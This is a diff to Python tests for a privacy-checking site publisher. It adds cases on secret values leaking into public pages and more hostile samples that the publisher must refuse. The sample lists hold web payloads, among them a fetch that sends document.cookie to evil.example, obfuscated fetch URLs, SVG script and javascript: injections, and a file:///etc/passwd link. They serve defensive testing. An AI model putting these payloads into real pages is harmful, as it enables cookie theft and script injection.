@@ -35,6 +35,7 @@ from suowu.privacy.folding import FoldedLine, line_of
 from suowu.privacy.gate import OwnPage
 from suowu.problems import problem, to_text, without_values
 from suowu.publish.leak_check import known_of
+from suowu.values import leaves_of
 from tests.small_ledger import defined
 
 ROOT = Path(__file__).resolve().parent.parent.parent
@@ -143,7 +144,8 @@ SPELLINGS = {
 }  # fmt: skip
 MARKED = {
     "姓名": [
-        "<b>庄</b>怀瑾", "庄<span>怀</span>瑾", "<td>庄</td><td>怀瑾</td>", "庄<!-- - -->怀瑾",
+        "<b>庄</b>怀瑾", "庄<span>怀</span>瑾", "<td>庄</td><td>怀瑾</td>",
+        "对象庄<!-- > -->怀瑾外出",
         "&#24196;怀瑾", "&#x5e84;&#x6000;&#x747e;", "庄&shy;怀瑾", "庄&nbsp;怀瑾", "庄&zwj;怀瑾",
         "庄<wbr>怀瑾", "庄<br>怀瑾", "<p>庄</p>\n<p>怀</p>\n<p>瑾</p>", "&amp;#24196;怀瑾",
         '庄<a title=">">怀瑾</a>', "<ruby>庄<rt></rt></ruby>怀瑾",
@@ -364,17 +366,19 @@ def kept(record: Record, data: dict[str, object]) -> tuple[dict[str, Secret], li
         ({"名称": "990000198705160035"}, {"身份证号": "990000198705160035"}),
         ({"人员": [{"姓名": "常培元", "职责": ["庄怀瑾"]}]}, {"姓名": "庄怀瑾"}),
         ({"人员": [{"姓名": "庄怀瑾"}]}, {"姓名": "庄怀瑾"}),
+        ({"人员": [{"姓名": "常培元", "职责": ["肖建国"]}]}, {"家属": [{"姓名": "肖建国"}]}),
     ],
-    ids=["phone", "home", "identity number", "a duty", "the same name"],
+    ids=["phone", "home", "identity number", "a duty", "the same name", "a relative's"],
 )
 def test_the_same_in_public_and_in_private_is_an_error_with_both_places(
     public: dict[str, object], private: dict[str, object]
 ) -> None:
     secrets, told = kept(office(**public), private)
-    assert set(secrets) >= set(map(str, private.values())), "a public value abolished the secret"
+    values = {str(value) for _, value in leaves_of(private)}
+    assert set(secrets) >= values, "a public value abolished the secret"
     (line,) = told
     assert line.startswith("错误 records/qinghe/office.yml") and "qinghe/thing/1" in line
-    assert not any(str(value) in line for value in private.values())
+    assert not any(value in line for value in values)
 
 
 def test_whom_an_office_names_as_staff_is_no_secret_where_staff_is_named() -> None:
@@ -440,6 +444,7 @@ ACTING = [
     '<video poster="https://evil.example/a"></video>',
     '<svg><use xlink:href="https://evil.example/a.svg#b"></use></svg>',
     "<a ping=//evil.example href=a.html>",
+    '<svg><set attributeName="href" to="javascript:x()"/></svg>',
     '<img src="data:image/png;base64,AAAA">', '<a href="file:///etc/passwd">一</a>',
 ]  # fmt: skip
 
@@ -457,6 +462,7 @@ def test_no_page_acts_or_fetches(text: str) -> None:
         ("public/css/a.css", "p {background: url(data:image/png;base64,AAAA)}"),
         ("public/js/a.js", 'fetch("https://evil.example/" + document.cookie)'),
         ("public/js/a.js", 'fetch("//evil.example/")'),
+        ("public/js/a.js", 'var a = "data:image/png;base64,AAAA";'),
         ("public/js/a.js", 'fetch("\\u0068ttps://evil.example/")'),
         ("public/img/a.svg", "<svg><script>x()</script></svg>"),
         ("public/img/a.svg", '<svg onload="x()"></svg>'),
